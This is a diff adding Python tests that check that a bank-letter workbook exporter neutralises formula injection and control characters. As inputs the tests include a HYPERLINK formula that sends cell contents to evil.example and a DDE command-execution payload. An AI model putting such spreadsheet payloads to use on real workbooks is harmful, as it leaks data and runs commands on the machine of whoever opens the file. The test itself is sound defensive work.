@@ -42,3 +42,31 @@ def test_dates_are_date_cells_and_cancelled_letters_are_struck_through() -> None
     assert [cancelled[1].value, cancelled[10].value, cancelled[13].value] == [
         "BC-2", "已撤销，未发函", "已撤销"]
     assert all(c.font.strike for c in cancelled)
+
+
+def test_text_from_users_is_never_a_formula_nor_breaks_the_workbook() -> None:
+    """A responder named like a formula stays text, and a bank's return reason holding a
+    vertical tab (which XML forbids) still gives a workbook that opens."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点此核对")'
+    sheet = assemble(facts(
+        LetterFacts(letter("BC-1", Status.RETURNED, status_reason="查无\x0b此户\x00"),
+                    hostile, "bank_api_pull"),
+        LetterFacts(letter("BC-2", Status.DELIVERED), "@SUM(1+1)*cmd|' /C calc'!A0",
+                    "bank_api_pull"),
+    ), today=TODAY, generated_at=NOW)
+    ws = load_workbook(io.BytesIO(render_xlsx(sheet))).active
+    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert "'" + hostile in texts and "'@SUM(1+1)*cmd|' /C calc'!A0" in texts
+    assert any("查无\ufffd此户\ufffd" in t for t in texts)
+
+
+def test_spreadsheet_text_keeps_plain_text_and_neutralises_the_rest() -> None:
+    from hub.safetext import spreadsheet_text
+
+    assert spreadsheet_text("京华商业银行 -1,000.00") == "京华商业银行 -1,000.00"
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert spreadsheet_text(f"{start}1+1") == f"'{start}1+1"
+    assert spreadsheet_text("a\x00b\x0bc\x1fd\ufffee") == "a\ufffdb\ufffdc\ufffdd\ufffde"
+    assert spreadsheet_text("第一行\n第二行\t完") == "第一行\n第二行\t完"
